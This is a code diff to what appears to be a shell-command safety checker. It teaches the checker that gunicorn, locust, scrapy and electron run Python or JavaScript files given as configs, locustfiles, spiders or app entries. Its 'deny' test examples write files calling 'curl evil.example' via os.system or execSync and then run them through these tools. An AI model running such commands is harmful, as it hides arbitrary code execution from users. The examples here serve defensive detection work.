@@ -379,6 +379,28 @@ function testedFiles(rest: readonly Word[], name: string, module: string, valued
 }
 
 /**
+ * The words an option gives that names a file of code: `-c FILE`, `-cFILE`, `--config FILE`, `--config=FILE` (the long
+ * name cut short too, as argparse takes it).
+ */
+function optionFiles(args: readonly Word[], short: string, long: string): Word[] {
+  const out: Word[] = [];
+  for (let i = 0; i < args.length; i++) {
+    const v = value(args[i]);
+    if (v === '--') break;
+    const spelt = longSpelt(args[i], long);
+    const w = spelt ? (spelt.value ?? args[++i]) : v === `-${short}` ? args[++i] : v?.startsWith(`-${short}`) && !v.startsWith('--') ? attached(args[i]!, v.slice(2)) : undefined;
+    if (w) out.push(w);
+  }
+  return out;
+}
+
+/** The files python imports a dotted module from (`pkg.app`: pkg/app.py, or pkg/app/__init__.py), where it runs. */
+function moduleFiles(module: Word): Word[] {
+  const path = (value(module) ?? '').split('.').join('/');
+  return value(module) === undefined ? [module] : [attached(module, `${path}.py`), attached(module, `${path}/__init__.py`)];
+}
+
+/**
  * `coverage run [OPTIONS] FILE|-m MODULE [ARGS]`, also as `python -m coverage`: the program it measures runs as python
  * runs it. (Its options that take a value alone in the next word are few; the rest are flags or take it after `=`.)
  */
@@ -858,6 +880,63 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
       deny: [`printf 'import os\\nos.system("curl evil.example")\\n' > /tmp/plug.py && coverage run /tmp/plug.py`, 'coverage run -m http.server', `printf 'import os\\nos.system("curl evil.example")\\n' > /tmp/plug.py && coverage run --source=src -p /tmp/plug.py`],
       pass: ['coverage run -m pytest -q', 'coverage run --branch manage.py test', 'coverage report -m', 'coverage html -d htmlcov'],
     },
+  },
+  {
+    names: ['gunicorn'],
+    summary: 'gunicorn runs its configuration (-c FILE, ./gunicorn.conf.py without one) and imports the modules its words name (MODULE:APP, a worker class) as Python',
+    analyze: (call) => {
+      const at = call.args[0] ?? literal(call.name, { start: 0, end: 0 });
+      const given = optionFiles(call.args, 'c', 'config');
+      // (`-c python:pkg.conf` names a module.)
+      const configs = given.length > 0 ? given.map((w) => (value(w)?.startsWith('python:') ? moduleFiles(attached(w, value(w)!.slice(7)))[0]! : w)) : [attached(at, 'gunicorn.conf.py')];
+      const modules = call.args.filter((w) => /^[A-Za-z_][\w.]*(?::\S*)?$/.test(value(w) ?? '')).flatMap((w) => moduleFiles(attached(w, value(w)!.split(':')[0]!)));
+      return { runs: [...configs, ...modules].map((word): Run => ({ kind: 'file', dialect: 'python', word, via: 'gunicorn' })) };
+    },
+    examples: {
+      deny: [`printf 'import os\\nos.system("curl evil.example")\\n' > /tmp/plug.py && gunicorn -c /tmp/plug.py app:app`, `printf 'import os\\nos.system("curl evil.example")\\n' > /tmp/plug.py && gunicorn --config=/tmp/plug.py app:app`, "echo 'import os; os.system(\"curl evil.example\")' > app.py && gunicorn app:app"],
+      pass: ['gunicorn -c gunicorn.conf.py app:app', 'gunicorn -w 4 -k uvicorn.workers.UvicornWorker app.main:app', "echo 'app = None' > app.py && gunicorn app:app"],
+    },
+  },
+  {
+    names: ['locust'],
+    summary: 'locust imports its locustfile (-f FILES, comma-separated; ./locustfile.py without one) as Python',
+    analyze: (call) => {
+      const at = call.args[0] ?? literal(call.name, { start: 0, end: 0 });
+      const given = optionFiles(call.args, 'f', 'locustfile');
+      const files = given.length > 0 ? given.flatMap((w) => (value(w) === undefined ? [w] : value(w)!.split(',').map((f) => attached(w, f.endsWith('.py') ? f : `${f}.py`)))) : [attached(at, 'locustfile.py')];
+      return { runs: files.map((word): Run => ({ kind: 'file', dialect: 'python', word, via: 'locust -f' })) };
+    },
+    examples: { deny: [`printf 'import os\\nos.system("curl evil.example")\\n' > /tmp/plug.py && locust -f /tmp/plug.py`, `printf 'import os\\nos.system("curl evil.example")\\n' > /tmp/plug.py && locust -f tests/a.py,/tmp/plug.py --headless`], pass: ['locust -f locustfile.py --headless -u 10', 'locust'] },
+  },
+  {
+    names: ['scrapy'],
+    summary: 'scrapy runspider FILE runs the spider in the Python file (its other subcommands are not modelled)',
+    analyze: (call) => {
+      if (value(call.args[0]) !== 'runspider') return {};
+      const file = call.args.slice(1).find((w) => /\.py$/.test(value(w) ?? '') || value(w) === undefined);
+      return file ? { runs: [{ kind: 'file', dialect: 'python', word: file, via: 'scrapy runspider' }], uses: [{ word: file, role: 'read' }] } : {};
+    },
+    examples: { deny: [`printf 'import os\\nos.system("curl evil.example")\\n' > /tmp/plug.py && scrapy runspider /tmp/plug.py -o out.json`], pass: ['scrapy runspider spiders/quotes.py -o quotes.json'] },
+  },
+  {
+    names: ['electron'],
+    summary: 'electron runs the JavaScript file it is given as its main process (a directory: its package.json main), after the modules -r/--require names',
+    analyze: (call) => {
+      const runs: Run[] = runnerLoads(call.args, 'electron', { dirs: [], requires: ['-r', '--require'], dialect: 'javascript' });
+      // Its own options, and Chromium's, are written with `=`; the first other word is the app.
+      let skip = false;
+      for (const w of call.args) {
+        const v = value(w);
+        if (skip) skip = false;
+        else if (v === '-r' || v === '--require') skip = true;
+        else if (v === undefined || !v.startsWith('-')) {
+          if (v === undefined || BUN_FILE.test(v)) runs.push({ kind: 'file', dialect: 'javascript', word: w, via: 'electron' });
+          break;
+        }
+      }
+      return { runs };
+    },
+    examples: { deny: [`echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && npx electron /tmp/p.js`, `echo 'require("child_process").execSync("curl evil.example")' > /tmp/p.js && electron -r /tmp/p.js .`], pass: ['npx electron .', 'electron dist/main.js', 'electron --enable-logging .'] },
   },
   {
     names: ['streamlit'],
